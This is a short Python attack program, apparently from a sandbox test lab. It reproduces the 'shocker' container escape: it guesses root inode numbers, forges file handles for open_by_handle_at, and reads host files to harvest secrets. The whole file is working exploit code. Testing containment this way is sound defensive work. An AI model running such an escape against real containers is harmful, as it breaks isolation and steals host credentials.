"""Opens the host's root by a file handle guessed from its inode, as the break-out `shocker` did."""

from __future__ import annotations

import ctypes
import os
import struct
from typing import Any

from tests.lab.attacks.programs.inside import call, read, secrets_in

INODES = (2, 64, 96, 128, 256)  # of the root folder: ext4, xfs, btrfs


def attack(world: dict[str, Any]) -> list[str]:
    found: list[str] = []
    for place in ("/usr", "/viva/data", "/work"):
        mount = os.open(place, os.O_RDONLY)
        for inode in INODES:
            handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, inode))
            try:
                root = call("open_by_handle_at", mount, handle, os.O_RDONLY)
            except OSError:
                continue
            found += secrets_in(b"".join(read(f"/proc/self/fd/{root}{file}") for file in world["files"]))
    return found
